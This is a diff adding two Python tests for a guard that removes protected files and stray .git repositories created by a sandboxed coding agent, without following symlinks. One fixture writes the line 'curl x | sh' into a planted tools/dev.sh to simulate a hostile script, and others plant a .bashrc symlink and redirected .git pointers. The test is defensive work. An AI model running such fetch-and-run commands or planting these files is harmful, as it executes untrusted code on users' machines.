@@ -221,6 +221,78 @@ def test_a_guard_puts_back_hooks_config_and_info_without_following_links(
     assert guard.undo() == ()
 
 
+def test_a_guard_in_the_sandbox_removes_only_the_protected_paths_made_since_the_start(
+    tmp_path: Path,
+) -> None:
+    """With the sandbox's protected paths given, one made since the invocation started is
+    removed (a link in its place too, not followed), one there at the start stays whatever
+    it holds, and one behind a link on the way is never removed through it; with the sandbox
+    off (none given) a new one stays."""
+    root = make_workspace(tmp_path / "repo", scripts={}, agents={"main": ["true"]})
+    ensure_excluded(root)
+    off = GitGuard.take(root)
+    guard = GitGuard.take(root, ("tools/dev.sh", "far/dev.sh"))
+    assert off is not None
+    assert guard is not None
+    (root / ".idea").mkdir()
+    guard.began()  # the person's .idea, there as the invocation starts
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    (outside / "dev.sh").write_text("mine\n")
+    (root / ".vscode").mkdir()
+    (root / ".vscode" / "tasks.json").write_text("{}\n")
+    (root / ".idea" / "new.xml").write_text("changed meanwhile\n")
+    (root / ".bashrc").symlink_to(outside / "dev.sh")
+    (root / "tools").mkdir()
+    (root / "tools" / "dev.sh").write_text("curl x | sh\n")
+    (root / "far").symlink_to(outside)
+    assert off.undo() == ()
+    assert sorted(guard.undo()) == [".bashrc", ".vscode", "tools/dev.sh"]
+    assert not (root / ".vscode").exists()
+    assert not (root / ".bashrc").is_symlink()
+    assert (root / ".idea" / "new.xml").read_text() == "changed meanwhile\n"
+    assert (root / "tools").is_dir()
+    assert not (root / "tools" / "dev.sh").exists()
+    assert (outside / "dev.sh").read_text() == "mine\n"
+    assert guard.undo() == ()
+
+
+def test_a_guard_removes_a_repository_made_inside_the_work_tree_and_keeps_the_others(
+    tmp_path: Path,
+) -> None:
+    """A ``.git`` folder, file or link that appears below the work tree's top after the
+    invocation started is removed, without following the link, with or without the sandbox;
+    the work tree's own ``.git`` and a ``.git`` there at the start (a submodule's) stay, the
+    submodule's put back as it was once the agent points it elsewhere."""
+    root = make_workspace(tmp_path / "repo", scripts={}, agents={"main": ["true"]})
+    ensure_excluded(root)
+    (root / "sub").mkdir()
+    (root / "sub" / ".git").write_text("gitdir: ../.git/modules/sub\n")
+    guard = GitGuard.take(root)
+    assert guard is not None
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    (outside / "config").write_text("mine\n")
+    subprocess.run(["git", "init", "-q", str(root / "deep" / "nested")], check=True)
+    (root / "deep" / "nested" / "f.txt").write_text("kept\n")
+    (root / "pointer").mkdir()
+    (root / "pointer" / ".git").write_text("gitdir: ../../outside\n")
+    (root / "linked").mkdir()
+    (root / "linked" / ".git").symlink_to(outside)
+    (root / "far").symlink_to(outside)  # a link on the way is never walked through
+    (outside / ".git").mkdir()
+    (root / "sub" / ".git").write_text("gitdir: ../deep/nested/.git\n")
+    undone = guard.undo()
+    assert sorted(undone) == ["deep/nested/.git", "linked/.git", "pointer/.git", "sub/.git"]
+    assert (root / "deep" / "nested" / "f.txt").read_text() == "kept\n"
+    assert not os.path.lexists(root / "linked" / ".git")
+    assert (outside / "config").read_text() == "mine\n"
+    assert (outside / ".git").is_dir()
+    assert (root / "sub" / ".git").read_text() == "gitdir: ../.git/modules/sub\n"
+    assert (root / ".git").is_dir()
+    assert guard.undo() == ()
+
+
 def test_the_exclude_file_is_never_written_through_a_symlink(tmp_path: Path) -> None:
     """``.git/info/exclude`` a symlink to a file outside: refused with a message naming it, and
     the target is unchanged; `ralph run` stops with that message before any agent starts."""
